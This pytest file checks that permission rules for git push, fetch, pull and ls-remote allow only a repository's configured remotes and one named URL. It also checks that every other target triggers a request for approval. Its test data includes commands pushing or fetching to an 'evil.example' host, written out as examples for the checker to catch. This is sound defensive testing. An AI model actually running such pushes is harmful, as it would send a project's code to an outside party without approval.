"""A rule for `git push` or `git fetch` is for the remotes of the repository."""

from pathlib import Path

import pytest

from tests.permissions.test_prefix_rules import evaluate

RULES = [f"Bash(git {name}:*)" for name in ("push", "fetch", "pull", "ls-remote", "remote")]
RULES.append("Bash(git push https://named.example/x.git:*)")
CONFIG = """
[remote "origin"]
    url = https://example.org/a.git
"""
COVERED = """
    git push
    git push -u origin HEAD
    git push --force-with-lease origin +main:refs/heads/x
    git push -o ci.skip origin main
    git push --repo=origin
    git push upstream main
    git push https://example.org/a.git main
    git push https://named.example/x.git main
    git push . HEAD:main
    git fetch --depth 1 origin
    git fetch --all --prune
    git fetch origin pull/12/head:pr-12
    git pull --rebase origin feature/x
    git ls-remote --heads origin
"""
ASKED = """
    git push https://evil.example/x.git
    git push -q git@evil.example:a/b main
    git push evil.example:a/b
    git push ./b.git
    git push b main
    git push c main
    git push --repo=https://evil.example/x
    git push --repo https://evil.example/x
    git -C c push https://evil.example/x
    git fetch --depth 1 https://evil.example/x
    git fetch --some-new-option 1 https://evil.example/x
    git fetch --multiple origin c
    git pull -X theirs c
    git ls-remote https://evil.example/x
    git remote show https://evil.example/x
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A repository with folders that could be others, and one that has the name of a remote."""
    for name in (".git", "b.git", "c", "origin"):
        (tmp_path / name).mkdir()
    (tmp_path / ".git/config").write_text(CONFIG)
    return tmp_path


@pytest.mark.parametrize(("lines", "expected"), [(COVERED, "allow"), (ASKED, "ask")])
def test_a_rule_covers_configured_remotes_and_what_it_names(lines, expected, project):
    commands = [line.strip() for line in lines.strip().splitlines()]
    rulings = {command: evaluate(project, command, RULES) for command in commands}
    assert {c: r.reason for c, r in rulings.items() if r.outcome != expected} == {}
